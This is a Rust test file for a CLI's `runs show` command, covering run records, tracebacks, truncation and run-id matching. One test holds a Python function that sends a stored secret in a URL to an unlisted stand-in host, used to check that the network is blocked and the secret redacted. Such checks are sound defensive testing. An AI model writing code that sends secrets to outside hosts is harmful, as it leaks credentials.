//! `runs show`: the whole record, and how a run is named.

use crate::command::{Place, assert_shows, assert_tells};

/// A function that calls another in its cell, does steps, starts a run and prints.
fn busy() -> Place {
    let place = Place::new();
    place.add("def louder(text: str) -> str:\n    return text.upper()\n");
    place.add("def shout(text: str) -> str:\n    return louder(text) + '!'\n");
    place.add("def shout(text: str) -> str:\n    return louder(text) + '!!'\n");
    place.file(
        "busy.py",
        "import selfmade\n\n@selfmade.function(brain=\"read\")\ndef busy(name: str):\n    \
         from selfmade import emit, run\n    print('greeting', name)\n    emit('greeted', {'name': name})\n    \
         return {'here': shout(name), 'there': run('shout', text=name)}\n",
    );
    place.data(&["fn", "add", "busy.py"]);
    place
}

#[test]
fn the_record_has_all_that_happened() {
    let place = busy();
    let id = place.run_id(&["busy", "Ada"]);
    assert_tells!(place.run(&["runs", "show", &id]), @r#"
    exit: 0
    --- stdout
    run [id]  succeeded (returned)
    busy@1

      started    [time--------------] by command_line
      took       [took]
      used       [took] in the cell, [took] of processor time, [size] of memory, a cold start
      revision   4

    Input
      {"name":"Ada"}

    Output
      {"here":"ADA!!","there":"ADA!!"}

    Printed
      greeting Ada

    Loaded
      busy@1
      louder@1
      shout@2

    Calls
      shout(text="Ada")  [took]  → "ADA!!"
        louder(text="Ada")  [took]  → "ADA"

    Steps
        1  emit("greeted", {"name":"Ada"})  [took]
        2  run("shout", text="Ada")  [took]  → "ADA!!"  run [id----]

    Led to
      [id----]  shout@2  succeeded  [took]  run [id----]
    --- stderr
    brain: [folder]/home (given by --home)
    "#);
}

#[test]
fn an_error_is_shown_with_its_traceback() {
    let place = busy();
    place.add("def careless(n: int):\n    return shout(n)\n");
    let id = place.run_id(&["careless", "3"]);
    assert_tells!(place.run(&["runs", "show", &id]), @r#"
    exit: 0
    --- stdout
    run [id]  failed (raised)
    careless@1

      started    [time--------------] by command_line
      took       [took]
      used       [took] in the cell, [took] of processor time, [size] of memory, a cold start
      revision   5

    Input
      {"n":3}

    Error
      Traceback (most recent call last):
        File "careless@1", line 2, in careless
          return shout(n)
                 ^^^^^^^^
        File "shout@2", line 2, in shout
          return louder(text) + '!!'
                 ^^^^^^^^^^^^
        File "louder@1", line 2, in louder
          return text.upper()
                 ^^^^^^^^^^
      AttributeError: 'int' object has no attribute 'upper'

    Loaded
      careless@1
      louder@1
      shout@2

    Calls
      shout(text=3)  [took]  → AttributeError: 'int' object has no attribute 'upper'
        louder(text=3)  [took]  → AttributeError: 'int' object has no attribute 'upper'
    --- stderr
    brain: [folder]/home (given by --home)
    "#);
}

#[test]
fn what_is_long_is_cut_unless_all_is_asked_for() {
    let place = Place::new();
    place.add("def one(n: int, text: str):\n    return n\n");
    place.add("def many():\n    return sum(one(n, 'x' * 100) for n in range(60))\n");
    let id = place.run_id(&["many"]);
    let calls = |shown: &str| shown.lines().filter(|line| line.contains("one(n=")).count();
    let shown = place.data(&["runs", "show", &id]);
    assert_eq!(calls(&shown), 50);
    assert!(shown.contains("… and 10 lines more; `--verbose` shows all"), "{shown}");
    assert!(shown.contains("xxx…"), "{shown}");
    assert_eq!(calls(&place.data(&["runs", "show", &id, "--verbose"])), 60);
    assert_eq!(place.json(&["runs", "show", &id])["calls"].as_array().unwrap().len(), 60);
}

#[test]
fn a_run_is_named_by_any_beginning_or_end_that_fits_no_other() {
    let place = Place::new();
    place.add("def n():\n    return 1\n");
    let (first, second) = (place.run_id(&["n"]), place.run_id(&["n"]));
    let (end, beginning) = (&first[first.len() - 8..], &first[..20]);
    for name in [end, beginning, &end.to_uppercase(), &first.replace('-', "")] {
        assert_eq!(place.json(&["runs", "show", name])["run_id"], first.as_str(), "{name}");
    }
    // Both begin with the same hours.
    let refused = place.run(&["runs", "show", &second[..5]]);
    assert!(refused.starts_with("exit: 3"), "{refused}");
    assert!(
        refused.contains(&format!("matches more than one run: {second}, {first}\nhint: give more")),
        "{refused}"
    );
    assert_tells!(place.run(&["runs", "show", "00000000"]), @"
    exit: 4
    --- stdout
    --- stderr
    brain: [folder]/home (given by --home)
    error: there is no run `[id----]`
    hint: `selfmade runs list` shows the newest
    ");
    assert_tells!(place.run(&["runs", "show", "last"]), @"
    exit: 0
    --- stdout
    run [id]  succeeded (returned)
    n@1

      started    [time--------------] by command_line
      took       [took]
      used       [took] in the cell, [took] of processor time, [size] of memory, a cold start
      revision   1

    Input
      {}

    Output
      1

    Loaded
      n@1
    --- stderr
    brain: [folder]/home (given by --home)
    ");
    assert_tells!(place.run(&["runs", "show", "ff"]), @"
    exit: 3
    --- stdout
    --- stderr
    brain: [folder]/home (given by --home)
    error: `ff` is not a run id, nor the beginning or end of one
    hint: write at least 4 of its hexadecimal digits, `last`, or `last:NAME`; `selfmade runs list` shows the last eight
    ");
}

#[test]
fn what_it_asked_of_the_network_is_shown_without_secrets() {
    let place = Place::new();
    place.run_with(&["secret", "set", "key"], b"hunter2-hunter2");
    place.add(
        "import selfmade\n\n@selfmade.function(network=['example.com'], secrets=['key'])\ndef fetch():\n    \
         import urllib.error, urllib.request\n    from selfmade import secrets\n    try:\n        \
         urllib.request.urlopen(f'http://not-listed.example/bot{secrets.key}/send?key={secrets.key}')\n    \
         except urllib.error.HTTPError as error:\n        return error.code\n",
    );
    let id = place.run_id(&["fetch"]);
    let record = place.json(&["runs", "show", &id]);
    assert_eq!(record["output"], 403, "{record:#}");
    let request = &record["requests"][0];
    assert_eq!(
        (&request["host"], &request["path"]),
        (&"not-listed.example".into(), &"/bot[secret key]/send".into())
    );
    assert_eq!(request["rule"], "not-listed");
    let shown = place.data(&["runs", "show", &id]);
    assert!(shown.contains("GET http://not-listed.example:80/bot[secret key]/send"), "{shown}");
}

#[test]
fn the_last_run_needs_no_id() {
    let place = Place::new();
    place.file("a.py", "def a(): return 1").file("b.py", "def b(): return 2");
    place.run(&["fn", "add", "a.py", "b.py"]);
    place.run(&["run", "a"]);
    place.run(&["run", "b"]);
    let of = |named: &str| {
        let shown = place.run(&["runs", "show", named, "--json"]);
        shown.lines().find_map(|line| line.trim().strip_prefix("\"output\": ").map(str::to_owned))
    };
    assert_eq!(of("last").as_deref(), Some("2,"));
    assert_eq!(of("last:a").as_deref(), Some("1,"));
    assert_shows!(place.run(&["runs", "show", "last:c"]), @"
    exit: 4
    --- stdout
    --- stderr
    brain: [folder]/home (given by --home)
    error: there is no run `last:c`
    hint: `selfmade runs list` shows the newest
    ");
    assert_shows!(place.run(&["runs", "show", "lost"]), @"
    exit: 3
    --- stdout
    --- stderr
    brain: [folder]/home (given by --home)
    error: `lost` is not a run id, nor the beginning or end of one
    hint: write at least 4 of its hexadecimal digits, `last`, or `last:NAME`; `selfmade runs list` shows the last eight
    ");
}
